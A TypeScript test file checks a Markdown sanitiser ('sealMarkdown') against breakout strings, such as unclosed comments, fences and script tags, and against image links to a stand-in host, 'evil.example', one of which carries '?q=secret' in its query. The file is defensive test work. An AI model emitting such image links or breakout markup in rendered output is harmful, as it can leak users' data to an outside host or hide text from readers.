import { marked, type Token } from 'marked';
import { describe, expect, it } from 'vitest';
import { sealMarkdown } from '../../../../../src/core/export/markdown/sealMarkdown';
import { hostileMarkdown } from '../../../../support/fixtures/hostileMarkdown';
import { trickyMarkdown } from '../../../../support/fixtures/trickyMarkdown';

/** Returns all tokens of a document, including nested ones. */
function tokensOf(text: string): Token[] {
  const all: Token[] = [];
  void marked.walkTokens(marked.lexer(text), token => void all.push(token));
  return all;
}

const after = '\n\n## After it\n\nThe end.';

/** Returns whether the text that follows in the document is still parsed correctly. */
function isIntact(text: string): boolean {
  const top = marked.lexer(text + after).filter(({ type }) => type !== 'space');
  const [heading, end] = top.slice(-2);
  return heading?.type === 'heading' && heading.text === 'After it' && end?.raw === 'The end.';
}

/** Texts that would swallow or hide the following text in some Markdown renderers. */
const breakouts: readonly string[] = [
  '<!-- never closed',
  'text <!-- never closed',
  '<details><summary>x',
  '</details></details>',
  '```\nnever closed',
  '~~~~ js\n```\nnever closed',
  '- a list\n  ```\n  in the list\n\n<!-- after it',
  '  ```\n  code\nless indented <!--\n```',
  '`one line\nand ` <!-- the next',
  'one ` line\nand `<b>` the next',
  '- `\n- <!-- `',
  '| a | b |\n|---|---|\n| ` | <!-- ` |',
  '\\` <!-- `',
  '`\\` <!-- `',
  '<script>\n`</script>`',
  '``` `\n<!-- ```',
  'a\r<!-- b',
  '    ```\n    code\n\n<!-- c',
  'text\n     ```\n     <!-- d',
  '> ```\n<!-- e',
];

describe('Untrusted Markdown', () => {
  // The tests' Markdown parser fails on texts nested thousands of levels deep.
  const hostile = hostileMarkdown.map(({ text }) => text).filter(text => text.length < 2_000);

  it.each([...breakouts, ...hostile])('is sealed: %j', text => {
    const sealed = sealMarkdown(text);
    expect(isIntact(sealed)).toBe(true);
    expect(tokensOf(sealed).filter(({ type }) => type === 'html')).toEqual([]);
    // Sealing is idempotent.
    expect(sealMarkdown(sealed)).toBe(sealed);
  });

  it.each([
    'Plain *text* with `Array<string>` and ``a ` <b>``.',
    '```ts\nconst map = new Map<string, number>();\n```',
    '1. First:\n   ```html\n   <p>\n   ```\n2. Second',
    '~~~\n```\n<b>\n~~~\n\nAfter.',
    '# Heading\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done',
  ])('stays unchanged if it is harmless: %j', text => {
    expect(sealMarkdown(text)).toBe(text);
  });

  it('keeps line breaks if requested, except in code', () => {
    expect(sealMarkdown('a\nb\n\n```\nc\nd\n```', true)).toBe('a  \nb\n\n```\nc\nd\n```');
  });

  it('gets its fences closed and its HTML escaped', () => {
    expect(sealMarkdown('````md\n```')).toBe('````md\n```\n````');
    expect(sealMarkdown('a <b> c')).toBe('a &lt;b> c');
  });

  it('is sealed for every tricky text that the page renders', () => {
    for (const { name, text } of trickyMarkdown) {
      expect(isIntact(sealMarkdown(text)), name).toBe(true);
    }
  });
});

it.each([
  '![x](https://evil.example/?q=secret)',
  '\\![x](https://evil.example/a.png)',
  '\\\\![x][ref]\n\n[ref]: https://evil.example/a.png',
  '[![x](https://evil.example/a.png)](https://b)',
  '- ![x\ny](https://evil.example/a.png)',
  '!\\![x](https://evil.example/a.png)',
  '&#33;![x](https://evil.example/a.png)',
])('produces no image: %s', text => {
  expect(tokensOf(sealMarkdown(text)).filter(({ type }) => type === 'image')).toEqual([]);
});

it('keeps image syntax in code', () => {
  expect(sealMarkdown('say `![x](y)` so')).toBe('say `![x](y)` so');
});
